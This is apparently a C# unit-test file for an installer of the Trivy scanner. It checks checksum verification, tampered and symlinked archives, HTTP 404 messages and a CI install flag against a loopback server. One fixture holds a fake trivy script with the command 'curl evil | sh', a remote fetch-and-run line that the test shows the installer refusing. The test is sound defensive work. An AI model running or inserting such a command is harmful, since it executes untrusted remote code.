using System.Runtime.InteropServices;
using System.Text;
using S3lo.Trivy;

namespace S3lo.Trivy.Tests;

/// <summary>
/// The installer against a real loopback HTTP server serving a release-shaped tar.gz and checksums file,
/// HOME pointed at a temp directory: it installs only what the checksums file vouches for.
/// </summary>
[System.Runtime.Versioning.UnsupportedOSPlatform("windows")]
public sealed class TrivyInstallerTests
{
    private const string Version = "0.58.1";
    private static readonly byte[] Script = Encoding.UTF8.GetBytes("#!/bin/sh\necho 'Version: 0.58.1'\n");

    private TempDir _home = null!;
    private TrivyReleaseFiles _release = null!;
    private LoopbackHttpServer _server = null!;

    [SetUp]
    public void Start()
    {
        _home = new TempDir("trivy-home");
        _release = new TrivyReleaseFiles(Version, TrivyRelease.AssetSuffixFor(RuntimeInformation.OSArchitecture), Script);
        _server = new LoopbackHttpServer(c => _release.Serve(c));
    }

    [TearDown]
    public void Stop()
    {
        _server.Dispose();
        _home.Dispose();
    }

    private string Bin => Path.Combine(_home.Path, ".local", "bin");

    private TrivySetup Setup() => new(new TrivyLocator(Environment), new TrivyInstaller(), Environment);

    private string? Environment(string name) => name switch
    {
        "HOME" => _home.Path,
        "PATH" => "",
        "CI" => "true",
        TrivyRelease.MirrorVariable => $"http://{_server.Authority}",
        TrivyRelease.VersionVariable => Version,
        _ => null,
    };

    private static string[] Listing(string directory) =>
        Directory.Exists(directory) ? [.. Directory.GetFileSystemEntries(directory).Select(Path.GetFileName).Order()!] : [];

    [Test]
    public async Task AGoodChecksumInstallsAnExecutableWithTheArchivesBytes()
    {
        var installed = await Setup().EnsureAsync(null, installWithoutAsking: true, CancellationToken.None);

        Assert.That(installed, Is.EqualTo(Path.Combine(Bin, "trivy")));
        Assert.That(Listing(Bin), Is.EqualTo(new[] { "trivy" }), "only trivy is in ~/.local/bin: no temp file, no LICENSE");
        Assert.That(File.ReadAllBytes(installed), Is.EqualTo(Script));
        if (!OperatingSystem.IsWindows())
            Assert.That(File.GetUnixFileMode(installed), Is.EqualTo((UnixFileMode)0b111_101_101), "0755");
        Assert.That(_server.Requests.Select(r => r.Path), Is.EqualTo(new[] { _release.ChecksumsPath, _release.ArchivePath }));
        // Found from now on without a download.
        Assert.That(Setup().TryLocate(null), Is.EqualTo(installed));
    }

    [Test]
    public void ATamperedArchiveIsRefusedAndLeavesNothingInLocalBin()
    {
        var good = TrivyReleaseFiles.Hex(_release.Archive);
        var tampered = TrivyReleaseFiles.TarGz(("trivy", Encoding.UTF8.GetBytes("#!/bin/sh\ncurl evil | sh\n")));
        _release.Archive = tampered;
        var downloadsBefore = Downloads();

        var e = Assert.ThrowsAsync<TrivyException>(() => Setup().EnsureAsync(null, true, CancellationToken.None))!;

        Assert.That(e.Message, Does.Contain(TrivyReleaseFiles.Hex(tampered)).And.Contain(good).And.Contain("refusing"));
        Assert.That(e.Message, Does.Not.Contain("\n"));
        Assert.That(Listing(Bin), Is.Empty);
        Assert.That(Listing(Path.Combine(_home.Path, ".local")), Is.Empty.Or.EqualTo(new[] { "bin" }));
        Assert.That(Downloads(), Is.EquivalentTo(downloadsBefore), "the downloaded archive is removed");
    }

    [Test]
    public void AMissingChecksumLineIsRefusedBeforeTheArchiveIsDownloaded()
    {
        _release.Checksums = Encoding.UTF8.GetBytes($"{new string('a', 64)}  trivy_{Version}_FreeBSD-64bit.tar.gz\n");

        var e = Assert.ThrowsAsync<TrivyException>(() => Setup().EnsureAsync(null, true, CancellationToken.None))!;

        Assert.That(e.Message, Is.EqualTo(
            $"http://{_server.Authority}{_release.ChecksumsPath} lists no sha256 for {_release.ArchiveName}: refusing to install it"));
        Assert.That(_server.Requests.Select(r => r.Path), Is.EqualTo(new[] { _release.ChecksumsPath }));
        Assert.That(Listing(Bin), Is.Empty);
    }

    [Test]
    public void AnHttp404IsOneLineNamingTheUrlAndStatus()
    {
        using var scope = new EnvironmentOverride(this, TrivyRelease.VersionVariable, "0.0.404");

        var e = Assert.ThrowsAsync<TrivyException>(() => scope.Setup.EnsureAsync(null, true, CancellationToken.None))!;

        Assert.That(e.Message, Is.EqualTo($"could not download http://{_server.Authority}/v0.0.404/trivy_0.0.404_checksums.txt: HTTP 404 Not Found"));
        Assert.That(Listing(Bin), Is.Empty);
    }

    [Test]
    public void AnArchiveWhoseTrivyIsALinkIsRefused()
    {
        _release.Archive = TrivyReleaseFiles.TarGzWithLinkedTrivy();
        _release.Checksums = Encoding.UTF8.GetBytes($"{TrivyReleaseFiles.Hex(_release.Archive)}  {_release.ArchiveName}\n");

        var e = Assert.ThrowsAsync<TrivyException>(() => Setup().EnsureAsync(null, true, CancellationToken.None))!;

        Assert.That(e.Message, Is.EqualTo($"{_release.ArchiveName}: its trivy entry is a SymbolicLink, not a file: refusing to install it"));
        Assert.That(Listing(Bin), Is.Empty);
    }

    [Test]
    public void WithoutTheFlagInCiItFailsNamingTheFlagAndDownloadsNothing()
    {
        var e = Assert.ThrowsAsync<TrivyException>(() => Setup().EnsureAsync(null, installWithoutAsking: false, CancellationToken.None))!;

        Assert.That(e.Message, Is.EqualTo($"trivy not found: install it (https://trivy.dev) or run again with --install-trivy to put trivy {Version} in ~/.local/bin/trivy"));
        Assert.That(_server.Requests, Is.Empty);
    }

    private static string[] Downloads() => Directory.GetFiles(Path.GetTempPath(), "s3lo-trivy-*.download");

    /// <summary>The test's environment with one variable changed.</summary>
    private sealed class EnvironmentOverride(TrivyInstallerTests test, string name, string value) : IDisposable
    {
        public TrivySetup Setup => new(new TrivyLocator(Get), new TrivyInstaller(), Get);

        private string? Get(string n) => n == name ? value : test.Environment(n);

        public void Dispose()
        {
        }
    }
}
